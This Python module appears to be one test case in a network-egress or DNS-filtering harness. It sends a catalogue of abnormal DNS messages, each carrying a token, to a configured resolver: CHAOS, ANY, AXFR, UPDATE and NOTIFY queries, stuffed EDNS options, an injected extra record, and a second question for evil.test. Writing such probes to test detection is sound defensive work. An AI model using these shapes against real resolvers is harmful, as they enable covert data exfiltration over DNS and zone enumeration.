# SPDX-License-Identifier: Apache-2.0
"""Classes, types, opcodes and options that an honest program has no use for."""
import dns

TITLE = "CHAOS, ANY, AXFR, UPDATE, EDNS and client-subnet payloads"
THREAT = "24"


def attack(c):
    server = c.resolver() or c.e
    shapes = {
        "CHAOS": lambda t: dns.query(f"{t}.bind", dns.TXT, cls=3),
        "ANY": lambda t: dns.query(f"{t}.ok.test", dns.ANY),
        "AXFR": lambda t: dns.query(f"{t}.test", dns.AXFR),
        "UPDATE": lambda t: dns.query(f"{t}.test", 6, opcode=5),
        "NOTIFY": lambda t: dns.query(f"{t}.test", 6, opcode=4),
        "client subnet": lambda t: dns.query("ok.test", extra=[dns.edns((8, b"\0\1\x20\0" + t.encode()))]),
        "cookie": lambda t: dns.query("ok.test", extra=[dns.edns((10, t.encode()[:8] + t.encode()))]),
        "padding": lambda t: dns.query("ok.test", extra=[dns.edns((12, t.encode() * 20))]),
        "unknown option": lambda t: dns.query("ok.test", extra=[dns.edns((65001, t.encode() * 20))]),
        "additional record": lambda t: dns.query("ok.test", extra=[dns.labels(f"{t}.test") + b"\0\1\0\1\0\0\0\0\0\4abcd"]),
        "two questions": lambda t: b"ab\1\0\0\2\0\0\0\0\0\0" + dns.question("ok.test") + dns.question(f"{t}.evil.test"),
    }
    for name, shape in shapes.items():
        with c.step(name) as token:
            c.udp(server, 53, shape(token))
